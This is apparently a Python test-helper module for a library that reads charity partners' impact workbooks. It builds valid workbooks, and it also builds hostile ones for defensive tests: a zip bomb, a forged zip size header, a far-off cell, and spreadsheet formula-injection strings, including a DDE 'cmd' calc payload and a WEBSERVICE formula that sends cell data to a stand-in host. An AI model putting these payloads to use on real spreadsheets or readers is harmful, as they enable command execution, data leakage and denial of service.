"""Real partner workbooks for tests: written with the template's writer, then edited the
way a person (or a spreadsheet program) would."""

from __future__ import annotations

import re
import shutil
import zipfile
from pathlib import Path
from typing import Any

import openpyxl

from svlib.io.template import write_workbook
from svlib.io.xlsx import _sheet_xml_paths
from svlib.tools.example_partners import example_collection

_COLLECTION = example_collection()


def write_partner(path: Path, base: str = "food-network", example_rows: bool = False, **partner_fields: Any) -> Path:
    """A valid workbook of one example partner, with Partner fields replaced (and the
    template's grey "e.g." example row above the data on every sheet, when asked)."""
    partner, tables = _COLLECTION[base]
    return write_workbook(path, {**partner, **partner_fields}, tables, example_rows=example_rows)


def write_csv_partner(folder: Path) -> Path:
    """A valid partner as a folder of CSVs named after the sheets (Partner, Inputs and a
    one-outcome ImpactMap; the optional sheets absent)."""
    folder.mkdir(parents=True)
    (folder / "Partner.csv").write_text(
        "field,value\npartner_id,csv-group\nname,CSV Group\norganisation_type,charity\narea,Consett\n"
        "purpose,evaluative\nperiod_start,01/04/2024\nperiod_end,31/03/2025\nprice_year,2024\n", encoding="utf-8")
    (folder / "Inputs.csv").write_text("input_id,source,value_gbp\nIN1,Grant,5000\n", encoding="utf-8")
    (folder / "ImpactMap.csv").write_text(
        "outcome_id,stakeholder,outcome,theme,quantity,duration,deadweight,displacement,attribution,drop_off,proxy_value\n"
        "C1,Residents,Volunteered,Growth,10,1,20%,0,25%,0,400\n", encoding="utf-8")
    return folder


def column_of(path: Path, sheet: str, header: str) -> str:
    """The column letter under a header in row 1."""
    ws = openpyxl.load_workbook(path)[sheet]
    for cell in ws[1]:
        if cell.value == header:
            return cell.column_letter
    raise KeyError(header)


def field_row(path: Path, sheet: str, field: str) -> int:
    ws = openpyxl.load_workbook(path)[sheet]
    for row in ws.iter_rows(min_row=2):
        if row[0].value == field:
            return row[0].row
    raise KeyError(field)


def edit(path: Path, sheet: str, cells: dict[str, Any], number_format: str | None = None) -> Path:
    """Set cells (such as ``{"G2": "25"}``) as a person would in a spreadsheet program."""
    book = openpyxl.load_workbook(path)
    ws = book[sheet]
    for ref, value in cells.items():
        ws[ref] = value
        if number_format:
            ws[ref].number_format = number_format
    book.save(path)
    return path


def cache_formula_value(path: Path, sheet: str, ref: str, cached: str) -> Path:
    """Give a formula cell a calculated value, as Excel does when it saves."""
    with zipfile.ZipFile(path) as archive:
        part = _sheet_xml_paths(archive)[sheet]
        contents = {name: archive.read(name) for name in archive.namelist()}
    xml = contents[part].decode()
    pattern = re.compile(rf'(<c r="{ref}"[^>]*>\s*<f>[^<]*</f>)\s*(<v\s*/>|<v>\s*</v>)?')
    xml, count = pattern.subn(rf"\1<v>{cached}</v>", xml)
    assert count == 1, f"no formula at {ref}"
    contents[part] = xml.encode()
    temporary = path.with_suffix(".tmp")
    with zipfile.ZipFile(temporary, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in contents.items():
            archive.writestr(name, data)
    shutil.move(temporary, path)
    return path


CONTACT_DETAILS = {  # (sheet, field or column): text holding contact details, none of which may be shared
    ("Partner", "area"): "Consett, ring Jo on 07700 900123",
    ("ImpactMap", "stakeholder"): "Volunteers (contact jo.lead@example.org)",
    ("ImpactMap", "outcome"): "Greener streets around DH8 5XP",
    ("ImpactMap", "measure"): "NT28, forms to 0191 496 0999",
    ("ImpactMap", "indicator"): "Tree cover, surveyed by trees@example.net",
    ("ImpactMap", "evidence"): "Counts by the warden, 07700 900654",
    ("Baseline", "commissioners"): "Durham County Council (sam.buyer@example.org)",
    ("Baseline", "data_systems"): "A spreadsheet kept at DH1 3LE",
    ("QualityMarks", "mark"): "Investing in Volunteers, assessor on 07700 900321",
    ("ReportingCalendar", "funder"): "Lottery (grants@example.com)",
}


def plant_contact_details(path: Path) -> dict[tuple[str, str], str]:
    """Type :data:`CONTACT_DETAILS` into a partner workbook's text cells (the first data
    row of each rows sheet, the field's value on a field sheet); returns them."""
    book = openpyxl.load_workbook(path)
    for (sheet, name), text in CONTACT_DETAILS.items():
        ws = book[sheet]
        if sheet in ("Partner", "Baseline"):
            row = next(r[0].row for r in ws.iter_rows(min_row=2) if r[0].value == name)
            ws.cell(row=row, column=2, value=text)
        else:
            column = next(c.column for c in ws[1] if c.value == name)
            ws.cell(row=2, column=column, value=text)
    book.save(path)
    return dict(CONTACT_DETAILS)


def write_far_cell(path: Path, base: str = "food-network", ref: str = "XFD1048576") -> Path:
    """A valid partner's workbook with one more cell, far beyond its tables (35 KB on
    disk; a reader holding every cell up to it would need hundreds of GiB)."""
    write_partner(path, base=base)
    book = openpyxl.load_workbook(path)
    book["ImpactMap"][ref] = "x"
    book.save(path)
    return path


def write_zip_bomb(path: Path, megabytes: int = 300) -> Path:
    """A workbook whose ImpactMap sheet unpacks to ``megabytes`` MB of rows from a file
    of about a thousandth of that: the sheet is written a block at a time, never held."""
    write_partner(path)
    with zipfile.ZipFile(path) as archive:
        contents = {name: archive.read(name) for name in archive.namelist()}
        part = _sheet_xml_paths(archive)["ImpactMap"]
    block = b'<row r="2"><c r="A2" t="inlineStr"><is><t>x</t></is></c></row>' * 16_000  # about 1 MB
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in contents.items():
            if name != part:
                archive.writestr(name, data)
        with archive.open(part, "w", force_zip64=True) as sheet:
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            for _ in range(megabytes):
                sheet.write(block)
            sheet.write(b"</sheetData></worksheet>")
    return path


def declare_smaller(path: Path, sheet: str = "ImpactMap", declared: int = 100) -> Path:
    """Make the archive say the sheet unpacks to ``declared`` bytes, though it unpacks to
    more: the lie a zip bomb tells a reader that trusts the sizes it is given."""
    with zipfile.ZipFile(path) as archive:
        part = _sheet_xml_paths(archive)[sheet]
        info = archive.getinfo(part)
    data = bytearray(path.read_bytes())
    name = part.encode()
    local = info.header_offset
    data[local + 22:local + 26] = declared.to_bytes(4, "little")
    central = next(i for i in range(len(data) - 4, 0, -1)
                   if data[i:i + 4] == b"PK\x01\x02" and data[i + 46:i + 46 + len(name)] == name)
    data[central + 24:central + 28] = declared.to_bytes(4, "little")
    path.write_bytes(bytes(data))
    return path


MATH_LABEL = r"$\undefinedcommand{x}$ GS1"
"""An outcome id that matplotlib would read as mathematical notation, and fail on."""


def rename_outcome(path: Path, old: str, new: str) -> Path:
    """Give an outcome a new id everywhere the workbook names it."""
    book = openpyxl.load_workbook(path)
    for sheet in ("ImpactMap", "DeflatorSurvey", "CaseStudies"):
        for row in book[sheet].iter_rows(min_row=2):
            for cell in row:
                if cell.value == old:
                    cell.value = new
    book.save(path)
    return path


def rewrite_sheet(path: Path, change, sheet: str = "ImpactMap", rels=None) -> Path:
    """Rewrite a sheet's XML (and, when given, the workbook's relationships) as text, the
    way a hand-made or hostile file might spell it."""
    with zipfile.ZipFile(path) as archive:
        contents = {name: archive.read(name) for name in archive.namelist()}
        part = _sheet_xml_paths(archive)[sheet]
    contents[part] = change(contents[part].decode()).encode()
    if rels is not None:
        contents["xl/_rels/workbook.xml.rels"] = rels(contents["xl/_rels/workbook.xml.rels"].decode()).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in contents.items():
            archive.writestr(name, data)
    return path


def far_row(cell: str) -> callable:
    """A change adding one far row holding ``cell`` (its XML) to the end of the sheet data."""
    return lambda xml: xml.replace("</sheetData>", cell + "</sheetData>")


FORMULA_TEXT = {  # (sheet, field or column): partner text that a spreadsheet would run as a formula
    ("Partner", "name"): "=HYPERLINK(\"http://example.invalid/x\",\"Food Network\")",
    ("Partner", "area"): "@SUM(1+1)*cmd|' /C calc'!A0",
    ("ImpactMap", "outcome"): "=WEBSERVICE(\"http://example.invalid/?\"&A1)",
    ("ImpactMap", "stakeholder"): "+44 people",
    ("ImpactMap", "proxy_source"): "-2+3",
    ("Inputs", "description"): "'already quoted",
}


def plant_formulas(path):
    import openpyxl

    book = openpyxl.load_workbook(path)
    for (sheet, name), text in FORMULA_TEXT.items():
        ws = book[sheet]
        if sheet == "Partner":
            cell = ws.cell(row=next(r[0].row for r in ws.iter_rows(min_row=2) if r[0].value == name), column=2)
        else:
            cell = ws.cell(row=2, column=next(c.column for c in ws[1] if c.value == name))
        cell.value = text
        cell.data_type = "s"  # typed as text, as a partner pasting it would
    book.save(path)
    return path


def plain_cells(page: str) -> str:
    """A page's table cells without their attributes (``<td class="num">3</td>`` read as
    ``<td>3</td>``), so a test can look for a cell's exact content."""
    import re  # local: only the page tests need it

    return re.sub(r"<td\b[^>]*>", "<td>", page)
